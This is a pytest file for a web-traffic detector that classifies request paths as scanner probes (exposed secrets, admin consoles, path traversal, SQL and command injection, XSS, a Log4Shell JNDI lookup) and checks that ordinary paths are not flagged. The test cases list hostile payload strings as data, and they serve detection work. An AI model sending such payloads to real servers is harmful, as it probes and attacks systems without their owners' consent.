"""Paths that only who looks for weaknesses asks for, and those that resemble them."""

import pytest

from detector.enrich.scanners import LOOKED_AT, Probe, probe_of
from detector.windows.probes import SERVED


@pytest.mark.parametrize(
    ("path", "probe"),
    [
        ("/.env", Probe.SECRETS),
        ("/api/.env.production", Probe.SECRETS),
        ("/.git/config", Probe.SECRETS),
        ("/wp-config.php.bak", Probe.SECRETS),
        ("/blog/wp-login.php?action=register", Probe.BLOGS),
        ("/administrator/index.php", Probe.PORTALS),
        ("/js/FCKeditor/editor/fckeditor.html", Probe.PORTALS),
        ("/phpMyAdmin/index.php", Probe.CONSOLES),
        ("/actuator/env", Probe.CONSOLES),
        ("/manager/html", Probe.CONSOLES),
        ("/cgi-bin/luci", Probe.DEVICES),
        ("/vendor/phpunit/src/eval-stdin.php", Probe.SHELLS),
        ("/backup-2024.tar.gz", Probe.DUMPS),
        ("/example.com.zip", Probe.DUMPS),
        ("/config.php.bak", Probe.DUMPS),
        ("/static/../../../etc/passwd", Probe.TRAVERSAL),
        ("/media/..%252f..%252fwin.ini", Probe.TRAVERSAL),
        ("/report?file=%2e%2e%2fsecret", Probe.TRAVERSAL),
        ("/item?id=1%27%20OR%20%271%27=%271", Probe.INJECTION),
        ("/item/7%20UNION%20ALL%20SELECT%20NULL--", Probe.INJECTION),
        ("/item?id=1;waitfor+delay+'0:0:5'", Probe.INJECTION),
        ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", Probe.INJECTION),
        ("/?x=${jndi:ldap://203.0.113.7/a}", Probe.INJECTION),
        ("/boards/7%3Bcat%20/etc/issue", Probe.INJECTION),
        ("/index.php?s=/Index/%5Cthink%5Capp/invokefunction", Probe.INJECTION),
    ],
)
def test_what_a_scanner_asks_for_is_told_by_kind(path: str, probe: Probe) -> None:
    assert probe == probe_of(path)


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/admin",
        "/login",
        "/material/398038",
        "/search?q=O%27Reilly",
        "/search?q=rock+and+roll=1",
        "/search?q=select+a+union",
        "/search?q=a%3Cb",
        "/help/how-to-wp-login",
        "/file/environment.env.png",
        "/reports/2024/summary.zip",
        "/.well-known/change-password",
        "/autodiscover/autodiscover.xml",
        "/apple-touch-icon-precomposed.png",
        "/robots.txt",
        "/a/b..c",
        "/price?from=1&to=2",
        "/item?name=drop(7)",
        "",
    ],
)
def test_what_people_and_their_programs_ask_for_is_no_probe(path: str) -> None:
    assert Probe.NONE == probe_of(path)


def test_only_the_beginning_of_a_long_path_is_looked_at() -> None:
    assert Probe.NONE == probe_of("/" + "a" * LOOKED_AT + "/.env")


def test_what_a_platform_may_really_serve_is_known_to_the_kernel() -> None:
    assert SERVED == (Probe.BLOGS, Probe.PORTALS, Probe.CONSOLES, Probe.DUMPS)
